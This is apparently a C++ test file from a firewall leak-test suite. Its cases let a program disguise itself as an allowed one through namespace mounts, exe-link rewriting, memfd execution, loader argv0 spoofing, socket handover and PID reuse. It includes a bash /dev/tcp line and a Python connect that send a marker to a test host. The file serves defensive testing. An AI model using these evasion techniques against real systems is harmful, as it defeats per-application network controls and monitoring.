// Programs that want to be taken for others.
// SPDX-License-Identifier: GPL-3.0-or-later
#include <fcntl.h>
#include <linux/prctl.h>
#include <linux/sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <thread>

#include "program.h"

namespace leak {

namespace {

constexpr uid_t kNobody = 65534;
const Words kConnect = {"tcp", "4"};

std::string allowed() {
    return variable("LEAK_ALLOWED");
}

// Like any program of a person's: no rights.
void dropRights() {
    must(setresgid(kNobody, kNobody, kNobody) == 0 && setresuid(kNobody, kNobody, kNobody) == 0,
         "setresuid");
    prctl(PR_SET_DUMPABLE, 1);  // else its own /proc files are root's
}

void write(const std::string& path, const std::string& text) {
    std::ofstream file(path);
    must(bool(file << text << std::flush), path);
}

// Root in a user namespace of its own, with mounts of its own.
void ownNamespaces() {
    dropRights();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        cannot("users may make no user namespaces here");
    write("/proc/self/setgroups", "deny");
    write("/proc/self/uid_map", "0 65534 1");
    write("/proc/self/gid_map", "0 65534 1");
    must(mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0, "private mounts");
}

void copyFile(const std::string& from, const std::string& to, mode_t mode = 0755) {
    const int in = ::open(from.c_str(), O_RDONLY | O_CLOEXEC);
    const int out = ::open(to.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);
    struct stat status {};
    must(in >= 0 && out >= 0 && fstat(in, &status) == 0, to);
    must(sendfile(out, in, nullptr, size_t(status.st_size)) == status.st_size, to);
    must(fchmod(out, mode) == 0, to);
    close(in);
    close(out);
}

void makeFolders(const std::string& path) {
    for (size_t at = path.find('/', 1); at != std::string::npos; at = path.find('/', at + 1))
        mkdir(path.substr(0, at).c_str(), 0755);
}

int bindMount(const Words&) {
    const std::string me = self();
    ownNamespaces();
    must(mount(me.c_str(), allowed().c_str(), nullptr, MS_BIND, nullptr) == 0, "bind mount");
    become(allowed(), kConnect);
}

int pivotRoot(const Words&) {
    const std::string me = self(), root = "/var/tmp";
    ownNamespaces();
    must(mount("tmpfs", root.c_str(), "tmpfs", 0, "mode=755") == 0, "tmpfs");
    makeFolders(root + allowed());
    copyFile(me, root + allowed());
    for (const char* folder : {"/usr", "/lib", "/lib64"}) {
        struct stat status {};
        if (stat(folder, &status) != 0)
            continue;
        mkdir((root + folder).c_str(), 0755);
        must(mount(folder, (root + folder).c_str(), nullptr, MS_BIND | MS_REC, nullptr) == 0,
             folder);
    }
    must(chdir(root.c_str()) == 0 && syscall(SYS_pivot_root, ".", ".") == 0, "pivot_root");
    must(umount2(".", MNT_DETACH) == 0 && chdir("/") == 0, "umount");
    become(allowed(), kConnect);
}

// Puts copies of the program's own pages in the place of its file's: the kernel lets nobody change
// the exe link while the old file is mapped.
void unmapFile(const std::string& path) {
    std::ifstream maps("/proc/self/maps");
    std::vector<std::string> lines;
    for (std::string line; std::getline(maps, line);)
        if (line.size() > path.size() &&
            line.compare(line.size() - path.size(), path.size(), path) == 0)
            lines.push_back(line);
    for (const std::string& line : lines) {
        uintptr_t begin = 0, end = 0;
        char rights[5] = {};
        must(std::sscanf(line.c_str(), "%" SCNxPTR "-%" SCNxPTR " %4s", &begin, &end, rights) == 3,
             "maps");
        const size_t bytes = end - begin;
        void* fresh =
            mmap(nullptr, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        must(fresh != MAP_FAILED, "mmap");
        std::memcpy(fresh, reinterpret_cast<void*>(begin), bytes);
        const int protection = (rights[0] == 'r' ? PROT_READ : 0) |
                               (rights[1] == 'w' ? PROT_WRITE : 0) |
                               (rights[2] == 'x' ? PROT_EXEC : 0);
        must(mprotect(fresh, bytes, protection) == 0, "mprotect");
        must(mremap(fresh, bytes, bytes, MREMAP_MAYMOVE | MREMAP_FIXED,
                    reinterpret_cast<void*>(begin)) != MAP_FAILED,
             "mremap");
    }
}

// proc_pid_stat(5), field numbers from 1.
std::vector<uint64_t> statFields() {
    std::ifstream file("/proc/self/stat");
    std::string text, word;
    std::getline(file, text);
    std::istringstream rest(text.substr(text.rfind(')') + 2));
    std::vector<uint64_t> fields(3, 0);
    while (rest >> word)
        fields.push_back(std::strtoull(word.c_str(), nullptr, 10));
    return fields;
}

int exeLink(const Words&) {
    const std::string me = self(), other = allowed();
    ownNamespaces();
    unmapFile(me);
    const std::vector<uint64_t> f = statFields();
    prctl_mm_map map{};
    map.start_code = f.at(26);
    map.end_code = f.at(27);
    map.start_stack = f.at(28);
    map.start_data = f.at(45);
    map.end_data = f.at(46);
    map.start_brk = f.at(47);
    map.arg_start = f.at(48);
    map.arg_end = f.at(49);
    map.env_start = f.at(50);
    map.env_end = f.at(51);
    map.brk = reinterpret_cast<uint64_t>(sbrk(0));
    map.exe_fd = uint32_t(::open(other.c_str(), O_RDONLY));
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) != 0)
        cannot(std::string("PR_SET_MM_MAP: ") + std::strerror(errno));
    must(self() == other, "the exe link is as it was");
    return tcp("4");
}

int name(const Words& words) {
    if (words.empty()) {
        execl(self().c_str(), allowed().c_str(), "name", "again", nullptr);
        broken("exec");
    }
    prctl(PR_SET_NAME, "allowed");
    return tcp("4");
}

// Its file goes, or another comes in its place, while it runs.
int deleted(const Words& words) {
    const std::string ghost = self() + "-ghost";
    if (words.at(0) != "now") {
        copyFile(self(), ghost);
        become(ghost, {"deleted", "now", words[0]});
    }
    const std::string file = self();
    ready();
    must(unlink(file.c_str()) == 0, "unlink");
    if (words.at(1) == "replaced")
        copyFile(allowed(), file);
    return tcp("4");
}

int memory(const Words&) {
    const int fd = memfd_create("allowed", 0), me = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    struct stat status {};
    must(fd >= 0 && fstat(me, &status) == 0, "memfd");
    must(sendfile(fd, me, nullptr, size_t(status.st_size)) == status.st_size, "memfd");
    char* argv[] = {const_cast<char*>("allowed"), const_cast<char*>("tcp"), const_cast<char*>("4"),
                    nullptr};
    fexecve(fd, argv, environ);
    broken("fexecve");
}

std::string loader() {
    for (const char* path : {"/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"})
        if (access(path, X_OK) == 0)
            return path;
    cannot("there is no ld.so that this test knows");
}

// loader [told]: ld.so runs the program; told: by the name of the allowed one.
int byLoader(const Words& words) {
    if (words.empty())
        become(loader(), {self(), "tcp", "4"});
    become(loader(), {"--argv0", allowed(), self(), "tcp", "4"});
}

std::string interpreter(const char* path) {
    if (access(path, X_OK) != 0)
        cannot(std::string("there is no ") + path);
    return path;
}

// Ends with 0 whatever comes of it.
const char* const kPython =
    "import os, socket\n"
    "s = socket.socket()\n"
    "s.settimeout(int(os.environ['LEAK_PATIENCE']) / 1000)\n"
    "s.connect_ex(('10.66.0.2', 7100))\n";
const char* const kShell =
    "timeout $1 bash -c 'echo leak >/dev/tcp/10.66.0.2/7100' $0 2>/dev/null; true";

// python code|script: code on the command line that names the allowed script, or a script of its
// own.
int python(const Words& words) {
    const std::string program = interpreter("/usr/bin/python3");
    if (words.at(0) == "code")
        become(program, {"-c", kPython, variable("LEAK_SCRIPT")});
    const std::string script = self() + ".py";
    write(script, kPython);
    become(program, {script});
}

int shell(const Words&) {
    const double seconds = std::stoi(variable("LEAK_PATIENCE")) / 1000.0;
    become(interpreter("/bin/bash"),
           {"-c", kShell, variable("LEAK_SCRIPT"), std::to_string(seconds)});
}

int environment(const Words&) {
    for (const char* name : {"APPIMAGE", "FLATPAK_ID", "SNAP", "SNAP_NAME", "APPDIR"})
        setenv(name, allowed().c_str(), 1);
    become(self(), kConnect);
}

void giveSocket(int channel, int fd) {
    char byte = 'x', room[CMSG_SPACE(sizeof(fd))] = {};
    iovec part{&byte, 1};
    msghdr message{};
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = room;
    message.msg_controllen = sizeof(room);
    cmsghdr* control = CMSG_FIRSTHDR(&message);
    control->cmsg_level = SOL_SOCKET;
    control->cmsg_type = SCM_RIGHTS;
    control->cmsg_len = CMSG_LEN(sizeof(fd));
    std::memcpy(CMSG_DATA(control), &fd, sizeof(fd));
    must(sendmsg(channel, &message, 0) == 1, "sendmsg");
}

int takeSocket(int channel) {
    char byte = 0, room[CMSG_SPACE(sizeof(int))] = {};
    iovec part{&byte, 1};
    msghdr message{};
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = room;
    message.msg_controllen = sizeof(room);
    must(recvmsg(channel, &message, 0) == 1, "recvmsg");
    int fd = -1;
    std::memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
    return fd;
}

// Starts the allowed program with one end of a channel as its third descriptor.
int withAllowed(const Words& arguments, pid_t& child) {
    int ends[2];
    must(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends) == 0, "socketpair");
    child = fork();
    if (child == 0) {
        dup2(ends[1], 3);
        become(allowed(), arguments);
    }
    close(ends[1]);
    return ends[0];
}

// This program's connection is handed to the allowed one, which sends on it.
int handOver(const Words&) {
    const Endpoint to = endpoint("4");
    const int fd = open(AF_INET, SOCK_STREAM);
    must(connect(fd, to.address(), to.size) == 0, "connect");
    pid_t child = 0;
    giveSocket(withAllowed({"send-given"}, child), fd);
    close(fd);
    waitpid(child, nullptr, 0);
    return 0;
}

int sendGiven(const Words&) {
    const int fd = takeSocket(3);
    ready();
    char byte = 0;
    send(fd, "leak", 4, MSG_NOSIGNAL);
    recv(fd, &byte, 1, 0);
    return 0;
}

// takeover tcp|udp [used]: the allowed program's socket, not connected yet, is used by this one.
// used: the other has sent from it to the same place.
int takeOver(const Words& words) {
    const bool stream = words.at(0) == "tcp";
    pid_t child = 0;
    Words give{"give"};
    give.insert(give.end(), words.begin(), words.end());
    const int fd = takeSocket(withAllowed(give, child));
    waitpid(child, nullptr, 0);
    const Endpoint to = endpoint("4");
    if (words.size() > 1)
        ready();
    if (stream)
        return tcp("4", fd);
    sendto(fd, "leak", 4, 0, to.address(), to.size);
    return 0;
}

int give(const Words& words) {
    const int fd = open(AF_INET, words.at(0) == "tcp" ? SOCK_STREAM : SOCK_DGRAM);
    const Endpoint to = endpoint("4");
    if (words.size() > 1)
        must(sendto(fd, "used", 4, 0, to.address(), to.size) == 4, "sendto");
    giveSocket(3, fd);
    return 0;
}

// inherit tcp|udp: the allowed program opens a socket and becomes this one, which uses it.
int inherit(const Words& words) {
    if (words.size() == 1)
        become(allowed(), {"inherit", words[0], self()});
    if (words.size() == 2) {
        const int fd = open(AF_INET, words[0] == "tcp" ? SOCK_STREAM : SOCK_DGRAM);
        become(words[1], {"inherit", words[0], std::to_string(fd), "now"});
    }
    const int fd = std::stoi(words.at(1));
    const Endpoint to = endpoint("4");
    if (words[0] == "tcp")
        return tcp("4", fd);
    sendto(fd, "leak", 4, 0, to.address(), to.size);
    return 0;
}

// A program whose file says: runs as root, whoever starts it.
int setUser(const Words& words) {
    if (words.empty()) {
        const std::string program = self() + "-rooted";
        copyFile(self(), program, 04755);
        dropRights();
        become(program, {"setuid", "now"});
    }
    if (geteuid() != 0)
        cannot("the folder's file system knows no setuid programs");
    return tcp("4");
}

// The content of a file that has a rule becomes another's.
int overwrite(const Words&) {
    const std::string program = variable("LEAK_CHANGED");
    copyFile(self(), program);
    const int end = ::open(program.c_str(), O_WRONLY | O_APPEND);
    must(end >= 0 && ::write(end, "x", 1) == 1, program);
    close(end);
    become(program, kConnect);
}

// A process that is gone before anybody could look, and so are all that started it.
int gone(const Words&) {
    int ends[2];
    must(pipe(ends) == 0, "pipe");
    if (fork() == 0) {
        setsid();
        if (fork() == 0)
            become(self(), {"udp", "4"});
        _exit(0);
    }
    close(ends[1]);
    char byte = 0;
    (void)!read(ends[0], &byte, 1);  // until the last of them is gone, and so the other end
    return 0;
}

int byThread(const Words&) {
    std::thread([] { tcp("4"); }).join();
    return 0;
}

// The number of a process of the allowed program that has just ended is this program's child's.
int sameNumber(const Words&) {
    pid_t before = 0;
    const int channel = withAllowed({"give", "udp"}, before);
    close(takeSocket(channel));
    waitpid(before, nullptr, 0);
    clone_args arguments{};
    arguments.exit_signal = SIGCHLD;
    arguments.set_tid = reinterpret_cast<uint64_t>(&before);
    arguments.set_tid_size = 1;
    const auto child = pid_t(syscall(SYS_clone3, &arguments, sizeof(arguments)));
    if (child < 0)
        cannot(std::string("clone3 with a number: ") + std::strerror(errno));
    if (child == 0) {
        tcp("4");
        _exit(0);
    }
    waitpid(child, nullptr, 0);
    return 0;
}

}  // namespace

const std::map<std::string, Case>& identityCases() {
    static const std::map<std::string, Case> all = {
        {"bind-mount", bindMount}, {"pivot-root", pivotRoot},
        {"exe-link", exeLink},     {"name", name},
        {"deleted", deleted},      {"memory", memory},
        {"loader", byLoader},      {"python", python},
        {"shell", shell},          {"environment", environment},
        {"hand-over", handOver},   {"send-given", sendGiven},
        {"takeover", takeOver},    {"give", give},
        {"inherit", inherit},      {"setuid", setUser},
        {"overwrite", overwrite},  {"gone", gone},
        {"thread", byThread},      {"same-number", sameNumber},
    };
    return all;
}

}  // namespace leak
